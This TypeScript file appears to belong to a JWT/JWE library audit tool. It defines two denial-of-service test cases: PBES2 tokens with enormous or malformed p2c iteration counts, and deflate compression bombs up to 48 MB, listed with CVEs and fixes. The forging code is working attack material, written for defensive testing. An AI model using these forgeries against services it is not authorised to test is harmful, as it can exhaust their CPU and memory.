import type { ForgeContext, Forgery, TokenAttack } from '../attack.ts';
import { decodeBase64Url, decodeText, encodeBase64Url, encodeUtf8 } from '../encoding.ts';
import { brokenForgery, encryptionOf, letters, sealForgery } from '../jwe-forgery.ts';
import { contentKeyBytes, randomBytes } from '../jwe-key-wrap.ts';
import { deflate, joinJwe, sealContent } from '../jwe-writer.ts';
import { freshClaims, issueToken } from '../unsafe-writer.ts';

/** E03. */
export const billionHashes: TokenAttack = {
  kind: 'token',
  id: 'E03',
  title: 'The token says how long its key takes to compute: p2c of PBES2',
  severity: 'high',
  cwe: 400,
  source: ['RFC 7518 §4.8.1.2', 'draft-ietf-oauth-rfc8725bis §3.13'],
  how: 'With PBES2 the key comes of a password, hashed as often as the header says, and the header is read before anything is known of its author. Three million rounds keep a processor busy for a second, two thousand million for a quarter of an hour, and the token is only then refused. The audit asks for few enough to do no harm and measures the time.',
  victims: [
    { what: 'jose < 1.28.2, < 2.0.6, < 3.20.4 and < 4.9.2', advisory: 'CVE-2022-36083' },
    { what: 'jwx', advisory: 'CVE-2023-49290' },
    { what: 'Nimbus JOSE+JWT < 9.37.2', advisory: 'CVE-2023-52428' },
    { what: 'jose4j < 0.9.4', advisory: 'CVE-2023-51775' },
    { what: 'jwcrypto < 1.5.1', advisory: 'CVE-2023-6681' },
    { what: 'joserfc < 1.6.3', advisory: 'CVE-2026-27932' },
  ],
  fix: 'Take no PBES2 at all unless you use it. Where you do, refuse a p2c above twice what you write yourself before a single round is computed.',
  needs: ['encryption-key'],
  expect: 'refused-in-time',
  forge: async (context) => {
    const { key } = encryptionOf(context);
    const forgeries: Forgery[] = [];
    for (const alg of ['PBES2-HS256+A128KW', 'PBES2-HS512+A256KW']) {
      const name = alg.slice(6, 11).toLowerCase();
      forgeries.push(await passwordForgery(context, `${name}-three-million`, alg, 3_000_000));
    }
    for (const [name, count] of Object.entries(oddCounts)) {
      forgeries.push(await passwordForgery(context, `hs256-${name}`, 'PBES2-HS256+A128KW', count));
    }
    if (!(key.kty === 'oct' && encryptionOf(context).alg.startsWith('PBES2'))) return forgeries;
    return [...forgeries, await sealForgery(context, 'right-but-beyond-the-cap', { count: 2_000_000 })];
  },
};

/** E04. */
export const compressionBomb: TokenAttack = {
  kind: 'token',
  id: 'E04',
  title: 'A short token that unpacks to a huge one: zip=DEF',
  severity: 'high',
  cwe: 409,
  source: ['RFC 7516 §4.1.3', 'RFC 8725 §3.6', 'draft-ietf-oauth-rfc8725bis §3.15'],
  how: 'Encrypted content may be compressed, and a thousand letters of one kind pack into one byte. A token of some kilobytes unpacks to megabytes and one of a megabyte to gigabytes, in the memory of whoever decrypts it. To encrypt it, the public key is enough. The audit sends a good token with 400 kB of filling, which is beyond what unpacking should yield, and against functions 48 MB of it, and measures the time.',
  victims: [
    { what: 'jose < 2.0.7 and < 4.15.5', advisory: 'CVE-2024-28176' },
    { what: 'go-jose', advisory: 'CVE-2024-28180' },
    { what: 'jwx', advisory: 'CVE-2024-28122' },
    { what: 'python-jose', advisory: 'CVE-2024-33664' },
    { what: 'Authlib', advisory: 'CVE-2025-62706' },
    { what: 'jwcrypto < 1.5.7', advisory: 'CVE-2026-39373' },
  ],
  fix: 'Refuse zip. Where it must be, stop unpacking at 250 kB.',
  needs: ['encryption-key'],
  expect: 'refused-in-time',
  forge: async (context) => {
    const forgeries: Forgery[] = [];
    const filled = await filledContent(context);
    if (filled !== undefined) {
      forgeries.push(await sealForgery(context, 'good-and-filled', { plaintext: filled, deflates: true }));
    }
    const filling = 'A'.repeat(400_000);
    forgeries.push(await sealForgery(context, 'filling-alone', { plaintext: filling, deflates: true }));
    if (context.reach === 'function') forgeries.push(await largeBomb(context));
    return forgeries;
  },
};

/** None of these is a number of rounds, or a safe one. They cost nothing, and may crash. */
const oddCounts: Readonly<Record<string, unknown>> = {
  zero: 0,
  negative: -1,
  fraction: 1000.5,
  text: '1000',
  null: null,
  list: [1000],
  missing: undefined,
};

/** A token under a password that nobody knows: the rounds are computed before that is found out. */
async function passwordForgery(context: ForgeContext, variant: string, alg: string, p2c: unknown): Promise<Forgery> {
  const { enc } = encryptionOf(context);
  const head = encodeBase64Url(
    JSON.stringify({
      alg,
      enc,
      p2s: encodeBase64Url(randomBytes(16)),
      p2c,
      kid: encryptionOf(context).key.kid,
      cty: 'JWT',
    }),
  );
  const contentKey = randomBytes(contentKeyBytes(enc));
  const iv = randomBytes(enc.includes('CBC') ? 16 : 12);
  const sealed = await sealContent(enc, contentKey, iv, encodeUtf8(head), encodeUtf8(context.good.text));
  const token = joinJwe({ head, encryptedKey: randomBytes(contentKey.length + 8), iv, ...sealed });
  const states = `a PBES2 token whose p2c is ${JSON.stringify(p2c) ?? 'missing'}`;
  const holds = (text: string): boolean => {
    const header = JSON.parse(decodeText(text.split('.')[0] ?? '')) as { readonly alg: string; readonly p2c?: unknown };
    return header.alg === alg && JSON.stringify(header.p2c) === JSON.stringify(p2c);
  };
  return { variant, token, proof: { kind: 'form', states, holds } };
}

/** What would be good if it were shorter. */
async function filledContent(context: ForgeContext): Promise<string | undefined> {
  const filling = 'A'.repeat(400_000);
  if (encryptionOf(context).content === 'claims') return JSON.stringify({ ...freshClaims(context), filling });
  return context.signer === undefined ? undefined : issueToken(context, { claims: { filling } });
}

const largeBytes = 48 << 20;
/** The same for every run, and a second's work. */
let packedFilling: Promise<Uint8Array> | undefined;

/** Compressed piece by piece, so that only the target has it whole. */
async function largeBomb(context: ForgeContext): Promise<Forgery> {
  packedFilling ??= deflate(letters(largeBytes));
  const packed = await packedFilling;
  const bent = { plaintext: packed, header: { zip: 'DEF' } };
  return brokenForgery(context, 'large', bent, `${packed.length} bytes that unpack to ${largeBytes}`, (token) => {
    const [head = '', , , text = ''] = token.split('.');
    return decodeText(head).includes('"zip":"DEF"') && decodeBase64Url(text).length < largeBytes / 500;
  });
}
